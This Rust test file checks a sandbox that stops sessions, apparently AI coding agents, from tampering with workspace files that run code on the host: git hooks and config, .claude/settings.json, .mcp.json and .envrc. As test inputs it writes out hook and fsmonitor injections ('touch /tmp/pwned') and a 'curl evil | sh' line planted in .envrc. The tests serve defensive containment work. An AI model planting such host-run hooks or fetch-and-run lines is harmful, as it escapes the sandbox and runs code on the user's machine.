//! Workspace files that run code on the host: read-only inside when they exist, reported
//! (or quarantined) when a session creates them, and no trace of the protection itself.

mod common;

use std::path::Path;
use std::process::Command;

use common::*;

/// Run a command on the host as `user` in `dir`.
fn host_as(user: TestUser, dir: &Path, script: &str) {
    let out = Command::new("setpriv")
        .args([
            "--reuid",
            &user.uid.to_string(),
            "--regid",
            &user.gid().to_string(),
        ])
        .args(["--clear-groups", "/bin/sh", "-c", script])
        .current_dir(dir)
        .env("HOME", user.home())
        .output()
        .unwrap();
    ok(&out);
}

/// A git repository with one commit, a hook, and the agent and editor files.
fn project(f: &Fixture, user: TestUser) -> std::path::PathBuf {
    let ws = f.workspace("project", user);
    host_as(
        user,
        &ws,
        "git init -q -b main . && git config user.email t@example.invalid && \
         git config user.name t && echo 'exit 0' > .git/hooks/pre-commit && \
         chmod +x .git/hooks/pre-commit && mkdir .claude && echo '{}' > .claude/settings.json && \
         echo '{}' > .mcp.json && echo 'export A=1' > .envrc && echo hello > README && \
         git add README && git commit -q -m init",
    );
    ws
}

#[test]
fn protected_files_are_read_only_and_git_still_works() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    let attempts = [
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "echo 'touch /tmp/pwned' > .git/hooks/post-checkout",
        "echo 'touch /tmp/pwned' >> .git/hooks/pre-commit",
        "rm .git/hooks/pre-commit",
        "mv .git/config .git/config.old",
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "rm .claude/settings.json",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "echo 'touch /tmp/pwned' >> .envrc",
        "mv .envrc envrc.old",
    ];
    let script = attempts
        .iter()
        .map(|c| format!("if ({c}) 2>/dev/null; then echo CHANGED: {c}; fi"))
        .collect::<Vec<_>>()
        .join("; ");
    let git = "echo more >> README && git add README && git commit -q -m second && \
               git log --format=%s | tr '\\n' ' '";
    let out = ok(&f.run(a, &ws, &format!("cd /workspace; {script}; {git}")));
    assert!(!out.contains("CHANGED"), "{out}");
    assert_eq!(out, "second init ");
    assert!(!ws.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join(".envrc")).unwrap(),
        "export A=1\n"
    );
}

#[test]
fn protected_path_created_in_a_session_is_reported_and_logged() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let out = f.run(
        a,
        &ws,
        "mkdir -p /workspace/.claude && echo '{\"hooks\":{}}' > /workspace/.claude/settings.json && \
         echo 'curl evil | sh' > /workspace/.envrc && echo ok",
    );
    assert_eq!(ok(&out), "ok\n");
    let err = stderr(&out);
    assert!(
        err.contains("review these before using the project outside the sandbox"),
        "{err}"
    );
    assert!(
        err.contains(".claude/settings.json was created: Claude Code on the host"),
        "{err}"
    );
    assert!(
        err.contains(".envrc was created: direnv on the host"),
        "{err}"
    );
    // Left in place without quarantine.
    assert!(ws.join(".envrc").exists());
    let logs: Vec<_> = std::fs::read_dir(f.state.join("logs")).unwrap().collect();
    assert_eq!(logs.len(), 1);
    let log = std::fs::read_to_string(logs[0].as_ref().unwrap().path()).unwrap();
    let review: serde_json::Value = log
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|v| v.get("review").is_some())
        .expect("a review line in the session log");
    let paths: Vec<&str> = review["review"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, [".claude/settings.json", ".envrc"]);
}

#[test]
fn quarantine_moves_new_protected_paths_away_and_says_where() {
    let f = Fixture::with(Options {
        quarantine: true,
        ..Options::default()
    });
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    let out = f.run(
        a,
        &ws,
        "echo '{}' > /workspace/.mcp.json && echo keep > /workspace/notes.txt",
    );
    ok(&out);
    let err = stderr(&out);
    assert!(err.contains(".mcp.json was created"), "{err}");
    let moved_line = err.lines().find(|l| l.contains("moved to")).expect(&err);
    let moved = moved_line.split("moved to ").nth(1).unwrap().trim();
    assert!(moved.starts_with(&f.state.join("quarantine").display().to_string()));
    assert_eq!(std::fs::read_to_string(moved).unwrap(), "{}\n");
    assert!(!ws.join(".mcp.json").exists());
    assert!(ws.join("notes.txt").exists(), "other files stay");
}

#[test]
fn the_protection_leaves_no_trace_in_the_workspace() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = project(&f, a);
    // Some protected paths exist (mounted over), others do not (watched).
    let before = tree(&ws);
    ok(&f.run(a, &ws, "echo new > /workspace/agent-wrote-this"));
    let mut after = tree(&ws);
    assert_eq!(after.remove("agent-wrote-this"), Some(b"new\n".to_vec()));
    assert_eq!(before, after);
}

#[test]
fn the_configured_list_replaces_the_default() {
    let f = Fixture::with(Options {
        protected_paths: Some("[ \"Makefile\" ]".into()),
        ..Options::default()
    });
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    write_as(a, &ws.join("Makefile"), "all:\n");
    write_as(a, &ws.join(".envrc"), "export A=1\n");
    let out = ok(&f.run(
        a,
        &ws,
        "(echo x >> /workspace/Makefile) 2>/dev/null && echo MAKEFILE-CHANGED; \
         echo x >> /workspace/.envrc && echo envrc-writable",
    ));
    assert_eq!(out, "envrc-writable\n");
}

#[test]
fn a_linked_git_dir_inside_the_workspace_is_protected_too() {
    let f = Fixture::new();
    let a = ALICE.ensure();
    let ws = f.workspace("ws", a);
    // A worktree-style layout: .git is a file pointing at a git directory elsewhere in
    // the workspace.
    host_as(
        a,
        &ws,
        "git init -q --separate-git-dir=repo.git -b main sub && echo 'exit 0' > repo.git/hooks/pre-commit",
    );
    let sub = ws.join("sub");
    // Use the subdirectory with the `.git` file as the workspace root? No: the gitdir must
    // be inside the workspace, so the workspace is `ws` and `.git` is at its top.
    std::fs::rename(sub.join(".git"), ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git"), "gitdir: repo.git\n").unwrap();
    let out = ok(&f.run(
        a,
        &ws,
        "(echo x >> /workspace/repo.git/config) 2>/dev/null && echo CONFIG-CHANGED; \
         (echo x > /workspace/repo.git/hooks/post-checkout) 2>/dev/null && echo HOOK-ADDED; echo done",
    ));
    assert_eq!(out, "done\n");
}
